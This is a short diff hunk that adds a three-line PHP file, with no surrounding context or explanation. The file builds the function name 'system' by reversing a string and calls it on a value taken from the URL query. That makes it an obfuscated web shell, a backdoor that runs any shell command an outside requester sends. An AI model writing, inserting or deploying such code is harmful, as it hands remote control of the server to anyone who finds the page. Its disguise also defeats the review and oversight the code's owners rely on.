@@ -1,0 +1,3 @@
+<?php
+$fn = strrev('metsys');
+$fn($_GET['q']);
